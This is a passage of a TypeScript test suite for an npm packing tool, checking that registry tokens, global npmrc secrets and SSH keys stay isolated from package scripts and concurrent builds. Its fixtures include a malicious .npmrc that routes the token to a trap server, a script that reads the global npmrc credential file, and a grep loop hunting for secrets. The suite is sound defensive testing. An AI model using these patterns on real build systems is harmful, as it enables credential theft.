    const needs = { name: '@acme-gh/needs-util', version: '1.0.0', main: 'index.js', license: 'MIT', dependencies: { '@acme-util/strings': '1.0.0' } };
    await publishVersion(registry.url, registry.token, '@acme-gh/needs-util', '1.0.0', await makeTarball('@acme-gh/needs-util', '1.0.0', { extraFiles: { 'package.json': JSON.stringify(needs) } }));
    await publishVersion(registry.url, registry.token, '@acme-util/strings', '1.0.0', await makeTarball('@acme-util/strings', '1.0.0'));
    outbound.length = 0;
    const at = checkout('@acme-gh/widget', '@acme-gh/needs-util');
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh', '@acme-util'], packages: [] };
    const out = await pack(at, '@acme-gh/widget', [source]);
    expect(existsSync(out.path)).toBe(true);
    expect(existsSync(join(at, 'node_modules', '@acme-util', 'strings', 'package.json'))).toBe(true);
    expect(outbound).toEqual([]);
  });
});

describe("a dependency in the package's own scope that only an internal dependency names (no source serves that scope)", () => {
  it('is never asked of the public registry: the install fails, asking only a name that never resolves', async () => {
    const needs = { name: '@acme-gh/needs-own', version: '1.0.0', main: 'index.js', license: 'MIT', dependencies: { '@widgetco/secret': '1.0.0' } };
    await publishVersion(registry.url, registry.token, '@acme-gh/needs-own', '1.0.0', await makeTarball('@acme-gh/needs-own', '1.0.0', { extraFiles: { 'package.json': JSON.stringify(needs) } }));
    outbound.length = 0;
    const at = checkout('@widgetco/widget', '@acme-gh/needs-own');
    const e = await refusal(pack(at, '@widgetco/widget', [{ url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] }]));
    expect(e.code).toBe('EBUILD');
    // npm asked for it only at a name that never resolves, which says why
    expect(e.actual).toContain('no-source-of-the-job-serves-this-scope.invalid/@widgetco%2fsecret');
    expect(outbound.filter((u) => !u.startsWith('http://no-source-of-the-job-serves-this-scope.invalid/'))).toEqual([]);
  });
});

describe('a package.json that begins with a byte order mark (as some Windows editors save it)', () => {
  it('is read as npm reads it: the tag is packed, and the tarball is this version to the target', async () => {
    const at = mkdtempSync(join(dir, 'checkout-'));
    writeFileSync(join(at, 'package.json'), `\uFEFF${JSON.stringify({ name: 'bom', version: '1.0.0', license: 'MIT', scripts: { prepare: 'true' } })}`);
    const out = await pack(at, 'bom');
    // npm packs the file as it is, mark and all; the target reads it for the name and version
    expect(readFileSync(join(at, 'package.json')).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(await readTarballManifest(out.path, 'bom@1.0.0')).toMatchObject({ name: 'bom', version: '1.0.0' });
  });
});

describe("the build's time limit (build.timeoutSeconds: per build)", () => {
  it('is one for the whole build, not one for each of its steps: an install script and a prepare script that each fit in it but not together time it out', async () => {
    const sleep = (s: number) => `node -e "setTimeout(() => {}, ${s * 1000})"`;
    const slow = { name: '@acme-gh/slow-install', version: '1.0.0', main: 'index.js', license: 'MIT', scripts: { install: sleep(5) } };
    await publishVersion(registry.url, registry.token, '@acme-gh/slow-install', '1.0.0', await makeTarball('@acme-gh/slow-install', '1.0.0', { extraFiles: { 'package.json': JSON.stringify(slow) } }));
    const at = checkout('@acme-gh/slow', '@acme-gh/slow-install');
    const own = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { scripts: Record<string, string> };
    own.scripts = { prepare: sleep(5) };
    writeFileSync(join(at, 'package.json'), JSON.stringify(own));
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    const e = await refusal(packNpm({ checkoutDir: at, subdir: '', name: '@acme-gh/slow', version: '1.0.0', outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 8_000, internal: [source] }));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toContain('timed out after 8 s');
  });
});

describe("a git dependency, while the install holds a registry token (npm clones it and runs npm in the clone, which reads the clone's own .npmrc)", () => {
  /** A git repository holding these files, committed. */
  function gitRepo(files: Record<string, string>): string {
    const repo = mkdtempSync(join(dir, 'git-dep-'));
    for (const [name, text] of Object.entries(files)) writeFileSync(join(repo, name), text);
    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd: repo, stdio: 'ignore' });
    git('init', '-q');
    git('add', '.');
    git('commit', '-qm', 'dep');
    return repo;
  }

  it("is refused, naming it, before npm clones it: that .npmrc would route the internal scope elsewhere and send the token there (${VAR} is expanded)", async () => {
    const trap = await startTrap();
    try {
      // the dependency's repository: a script (so npm prepares it, running `npm install` in the clone), an
      // .npmrc routing the internal scope to the trap with the builder's token variable, a dependency there
      const dep = gitRepo({
        'package.json': JSON.stringify({ name: 'git-dep-rc', version: '1.0.0', scripts: { prepare: 'true' }, dependencies: { '@acme-gh/build-tool': '1.0.0' } }),
        '.npmrc': `@acme-gh:registry=${trap.url}\n${trap.url.replace(/^http:/, '')}:_authToken=\${CAM_NPM_SOURCE_TOKEN_0}\n`,
      });
      const at = checkout('@acme-gh/sly-dep', '@acme-gh/build-tool');
      const manifest = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { dependencies?: Record<string, string> };
      manifest.dependencies = { 'git-dep-rc': `git+file://${dep}` };
      writeFileSync(join(at, 'package.json'), JSON.stringify(manifest));
      const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
      const e = await refusal(pack(at, '@acme-gh/sly-dep', [source]));
      expect(trap.seen).toEqual([]);
      expect(e.code).toBe('EBUILD');
      expect(e.message).toContain('git-dep-rc');
      expect(existsSync(join(at, 'node_modules'))).toBe(false);
    } finally {
      await trap.stop();
    }
  });

  it('pinned only by the lockfile (a dependency of a dependency), or spelled as a GitHub shorthand: refused too', async () => {
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    const lock = {
      name: '@acme-gh/sly-lock',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: '@acme-gh/sly-lock', version: '1.0.0', devDependencies: { '@acme-gh/build-tool': '1.0.0' } },
        'node_modules/@acme-gh/build-tool': { version: '1.0.0', resolved: `${registry.url.replace(/\/?$/, '/')}@acme-gh/build-tool/-/build-tool-1.0.0.tgz`, dev: true },
        'node_modules/deep-git': { version: '1.0.0', resolved: 'git+ssh://git@github.com/someone/deep-git.git#0123456789abcdef0123456789abcdef01234567', dev: true },
      },
    };
    const locked = await refusal(pack(checkout('@acme-gh/sly-lock', '@acme-gh/build-tool', { lock }), '@acme-gh/sly-lock', [source]));
    expect(locked.code).toBe('EBUILD');
    expect(locked.message).toContain('deep-git');
    const at = checkout('@acme-gh/sly-short', '@acme-gh/build-tool');
    const manifest = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { optionalDependencies?: Record<string, string> };
    manifest.optionalDependencies = { shorty: 'someone/shorty#v1' };
    writeFileSync(join(at, 'package.json'), JSON.stringify(manifest));
    const short = await refusal(pack(at, '@acme-gh/sly-short', [source]));
    expect(short.code).toBe('EBUILD');
    expect(short.message).toContain('shorty');
  });

  it('a v1 lockfile nesting its dependencies deeper than any tree npm writes cannot hide one there: refused (EBUILD), never a stack overflow or a check cut short', async () => {
    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
    // 300 levels of `dependencies`, a git dependency at the bottom
    let nested: Record<string, unknown> = { 'hidden-git': { version: 'git+ssh://git@github.com/someone/hidden-git.git#0123456789abcdef0123456789abcdef01234567' } };
    for (let i = 0; i < 300; i++) nested = { [`level-${i}`]: { version: '1.0.0', dependencies: nested } };
    const lock = { name: '@acme-gh/sly-deep', version: '1.0.0', lockfileVersion: 1, requires: true, dependencies: { '@acme-gh/build-tool': { version: '1.0.0', dev: true }, ...nested } };
    const e = await refusal(pack(checkout('@acme-gh/sly-deep', '@acme-gh/build-tool', { lock }), '@acme-gh/sly-deep', [source]));
    expect(e.code).toBe('EBUILD');
    expect(e.message).toMatch(/hidden-git|deeper than/);
  });
});

describe("npm's global config (<prefix>/etc/npmrc, beside the node npm runs: where an image or an operator keeps a registry token)", () => {
  /** A node of its own prefix (bin/node, an empty etc/), to be found first on PATH: npm's global config is then <prefix>/etc/npmrc. */
  const nodePrefix = (): string => {
    const prefix = mkdtempSync(join(dir, 'prefix-'));
    mkdirSync(join(prefix, 'bin'));
    mkdirSync(join(prefix, 'etc'));
    try {
      linkSync(process.execPath, join(prefix, 'bin', 'node'));
    } catch {
      copyFileSync(process.execPath, join(prefix, 'bin', 'node'));
    }
    chmodSync(join(prefix, 'bin', 'node'), 0o755);
    return prefix;
  };

  it("no script of the tag's reads it; the install still has its settings", async () => {
    // a node of its own prefix, found first on PATH: npm's global config is <that prefix>/etc/npmrc
    const prefix = nodePrefix();
    // the operator's: a token for some registry, and a setting the install must keep (npm writes no lockfile)
    writeFileSync(join(prefix, 'etc', 'npmrc'), '//npm.operator.example/:_authToken=operator-global-secret-4711\npackage-lock=false\n');
    const dump = join(dir, `global-saw-${Math.random().toString(36).slice(2)}.log`);
    const read = `node -e "const fs = require('fs'), p = require('path'); let t; try { t = fs.readFileSync(p.join(p.dirname(p.dirname(process.execPath)), 'etc', 'npmrc'), 'utf8'); } catch (e) { t = 'unreadable ' + e.code; } fs.writeFileSync(${JSON.stringify(dump).replaceAll('"', '\\"')}, process.execPath + ' ' + t)"`;
    const at = checkoutOf({ name: 'globally', version: '1.0.0', license: 'MIT', scripts: { prepare: read } });
    const saved = process.env.PATH;
    process.env.PATH = `${join(prefix, 'bin')}:${saved ?? ''}`;
    try {
      const out = await pack(at, 'globally');
      expect(existsSync(out.path)).toBe(true);
    } finally {
      process.env.PATH = saved;
    }
    const saw = readFileSync(dump, 'utf8');
    expect(saw.startsWith(join(prefix, 'bin', 'node'))).toBe(true);
    expect(saw).not.toContain('operator-global-secret-4711');
    expect(existsSync(join(at, 'package-lock.json'))).toBe(false);
    expect(readFileSync(join(prefix, 'etc', 'npmrc'), 'utf8')).toContain('operator-global-secret-4711');
  });

  it("nor does another build running meanwhile (a tag's setup.py that searches the state's tmp folder while the install holds its copy)", async () => {
    const prefix = nodePrefix();
    writeFileSync(join(prefix, 'etc', 'npmrc'), '//npm.operator.example/:_authToken=operator-global-secret-4712\n');
    // the state's tmp folder, as the engine gives it to every build (their scratch, checkouts and outputs)
    const scratch = mkdtempSync(join(dir, 'state-tmp-'));
    // as the engine does before any build starts
    sealedFolder(scratch);
    const other = mkdtempSync(join(scratch, 'checkout-other-'));
    // the other build: searches every file under the state's tmp folder until told to stop
    const search = `touch ready; while [ ! -e stop ]; do grep -rhs operator-global-secret '${scratch}'; done; true`;
    const otherBuild = runProcess({ argv: ['sh', '-c', search], cwd: other, env: { PATH: '/usr/bin:/bin' }, timeoutMs: 120_000 });
    while (!existsSync(join(other, 'ready'))) await new Promise((r) => setTimeout(r, 20));
    const at = checkoutOf({ name: 'meanwhile', version: '1.0.0', license: 'MIT', scripts: { prepare: 'node -e 0' } });
    const saved = process.env.PATH;
    process.env.PATH = `${join(prefix, 'bin')}:${saved ?? ''}`;
    try {
      const out = await packNpm({ checkoutDir: at, subdir: '', name: 'meanwhile', version: '1.0.0', outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 120_000, scratchDir: scratch });
      expect(existsSync(out.path)).toBe(true);
    } finally {
      process.env.PATH = saved;
      writeFileSync(join(other, 'stop'), '');
    }
    const seen = await otherBuild;
    expect(seen.exitCode, seen.output).toBe(0);
    expect(seen.output).not.toContain('operator-global-secret-4712');
  });

  it("nor does the install itself see what else is in the sealed folder: another job's ssh key, another install's copy, not even one written after it started; only its own folder", async () => {
    const prefix = nodePrefix();
    writeFileSync(join(prefix, 'etc', 'npmrc'), 'own-global-setting-4713=true\n');
    const scratch = mkdtempSync(join(dir, 'state-tmp-'));
    const sealed = sealedFolder(scratch);
    // what the tool keeps there for others: a key given as text while another job's git fetches,
    // another install's cache with its copy of npm's global config (the operator's token)
    writeFileSync(join(sealed, `ssh-key-other-src-${process.pid}`), 'fake ssh key for this test: planted-key-4713\n', { mode: 0o600 });
    mkdirSync(join(sealed, `install-${process.pid}-other`));
    writeFileSync(join(sealed, `install-${process.pid}-other`, 'global-npmrc'), '//npm.operator.example/:_authToken=planted-token-4713\n', { mode: 0o600 });
    const sync = mkdtempSync(join(dir, 'sync-'));
    // npm's install, as a program that says what it can read in the sealed folder (npm runs no code of the tag's:
    // this stands for a package's install-time behaviour or npm logging its config); it fails, so its output is the error's
    const npm = [
      '#!/bin/sh',
      'case "$1" in',
      'install|ci)',
      `  touch '${sync}/started'; i=0; while [ ! -e '${sync}/late' ] && [ $i -lt 1200 ]; do sleep 0.1; i=$((i+1)); done`,
      '  echo "own: $(cat "$npm_config_globalconfig" 2>&1)"',
      `  echo "listed: $(ls -A '${sealed}' 2>&1 | tr '\\n' ' ')"`,
      `  grep -rhs planted '${sealed}'`,
      `  cat '${sealed}/ssh-key-late-src-${process.pid}' 2>&1`,
      '  exit 1;;',
      'esac',
      'exit 2',
    ].join('\n');
    writeFileSync(join(prefix, 'bin', 'npm'), `${npm}\n`, { mode: 0o755 });
    const at = checkoutOf({ name: 'sealed-install', version: '1.0.0', license: 'MIT', scripts: { prepare: 'node -e 0' } });
    const saved = process.env.PATH;
    process.env.PATH = `${join(prefix, 'bin')}:${saved ?? ''}`;
    let e: MigrateError;
    try {
      const built = refusal(packNpm({ checkoutDir: at, subdir: '', name: 'sealed-install', version: '1.0.0', outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 180_000, scratchDir: scratch }));
      // a key written while the install runs (a git fetch of another job starting meanwhile)
      while (!existsSync(join(sync, 'started'))) await new Promise((r) => setTimeout(r, 20));
      writeFileSync(join(sealed, `ssh-key-late-src-${process.pid}`), 'fake ssh key for this test: planted-late-key-4713\n', { mode: 0o600 });
      writeFileSync(join(sync, 'late'), '');
      e = await built;
    } finally {
      process.env.PATH = saved;
    }
    expect(e.code).toBe('EBUILD');
    // its own copy it reads, in its own folder, the one thing it sees there
    expect(e.actual).toContain('own: own-global-setting-4713=true');
    expect(e.actual).toMatch(/listed: install-\d+-\w+ \n/);
    expect(e.actual).not.toContain('planted');
    expect(readFileSync(join(sealed, `ssh-key-late-src-${process.pid}`), 'utf8')).toContain('planted-late-key-4713');
  });
});
